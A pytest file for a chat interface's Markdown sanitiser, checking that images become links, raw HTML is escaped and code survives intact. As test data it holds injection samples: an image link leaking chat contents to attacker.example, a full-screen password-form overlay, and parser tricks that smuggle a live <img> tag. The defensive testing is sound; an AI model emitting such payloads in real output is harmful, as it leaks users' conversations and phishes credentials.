"""safe_markdown: messages and replies cannot load remote resources or inject HTML; code and Markdown survive."""

from __future__ import annotations

import html

import pytest

from ui.render import safe_markdown


def test_markdown_images_become_links_so_nothing_is_fetched():
    leak = "![s](http://attacker.example/p.png?secret=chat-contents)"
    assert safe_markdown(leak) == "[image: s](http://attacker.example/p.png?secret=chat-contents)"
    ref = "![logo][1]\n\n[1]: http://attacker.example/x.png"
    assert safe_markdown(ref).startswith("[image: logo][1]")


def test_raw_html_is_text():
    overlay = (
        '<div style="position:fixed;inset:0;z-index:99999"><form action=http://x><input type=password></form></div>'
    )
    out = safe_markdown(overlay)
    assert "<" not in out and out.startswith("&lt;div style=")
    assert safe_markdown("<img src=http://attacker.example/a.png>") == "&lt;img src=http://attacker.example/a.png>"
    assert safe_markdown("AT&T &lt;b&gt;") == "AT&amp;T &amp;lt;b&amp;gt;"  # shown exactly as typed


def test_code_keeps_its_text():
    fenced = "Here:\n```html\n<div style='x'>![a](http://e/x.png)</div>\n```\nand `a < b` inline, <b>not this</b>"
    out = safe_markdown(fenced)
    assert "\n\n```html\n<div style='x'>![a](http://e/x.png)</div>\n```\n\n" in out  # a fenced block: as written
    assert "<code>a &lt; b</code>" in out and out.endswith("&lt;b>not this&lt;/b>")  # a span: escaped, shows a < b
    assert safe_markdown("`*a* [b](c) | d`") == r"<code>\*a\* \[b\]\(c\) \| d</code>"  # no Markdown inside


def test_an_unclosed_fence_keeps_the_rest_as_code():
    assert safe_markdown("```\n<b>still code") == "\n```\n<b>still code\n```\n"


def _live_tags(markdown: str) -> list[str]:
    """Every tag a CommonMark parser would pass to the page as HTML (its raw-HTML tokens)."""
    from markdown_it import MarkdownIt

    md = MarkdownIt("commonmark").enable("table")
    tags = []
    for token in md.parse(markdown):
        for t in [token, *(token.children or [])]:
            if t.type in ("html_block", "html_inline"):
                tags.append(t.content.strip())
    return tags


@pytest.mark.parametrize(
    "attack",
    [
        "\\`<img src=http://e/x>\\`",  # escaped backticks open no code span
        "`\n\n<img src=http://e/x>\n\n`",  # a code span cannot cross a paragraph break
        "    ```\n<img src=http://e/x>\n    ```",  # four spaces: an indented line, not a fence
        "```\nx\n````\n<img src=http://e/x>\n```",  # a longer fence closes the block
        "| `x | <img src=http://e/x> | ` |\n|---|---|---|\n| 1 | 2 | 3 |",  # table cells split before code spans
        "> ```\n<img src=http://e/x>\n```",  # a fence inside a quote ends with the quote
        "- a\n\n\t```\n<img src=http://e/x>\n```",  # a tab is four spaces
        "```js <img src=http://e/x>\ncode\n```",  # the info string
    ],
)
def test_a_message_that_hides_html_in_code_gets_no_live_tag(attack):
    """Before: the renderer left "code" untouched by its own reckoning, and each of these made a live <img>."""
    assert [t for t in _live_tags(safe_markdown(attack)) if t not in ("<code>", "</code>")] == []


def test_plain_markdown_is_unchanged():
    text = "# Title\n\n> a quote\n\n- **bold** and [a link](https://example.org)\n\n| a | b |\n|---|---|\n| 1 | 2 |"
    assert safe_markdown(text) == text


@pytest.mark.parametrize(
    "name",
    [
        '<div style="position:fixed;inset:0">x',
        "**b** _e_ ~~s~~ `c` [l](javascript:x) ![i](http://e/i.png) | t |",
        "# heading",
        "- item",
        "1. item",
        "> quote",
        "---",
        "a\n# heading\n<img src=http://e/x>",
        "AT&T &lt;b&gt; C:\\models\\x",
    ],
)
def test_literal_shows_a_name_as_exactly_its_characters(name):
    from markdown_it import MarkdownIt

    from ui.render import literal

    md = MarkdownIt("commonmark").enable(["table", "strikethrough"])
    shown = html.escape(name.replace("\n", " "))
    assert md.render(literal(name)) == f"<p>{shown}</p>\n"  # at a line's start too: no heading, list or quote
    assert md.render(f"Loaded **{literal(name)}**") == f"<p>Loaded <strong>{shown}</strong></p>\n"
    assert literal("0.5 MB") == "0.5 MB" and literal("-1 MB") == "-1 MB"  # sentences stay readable as they are
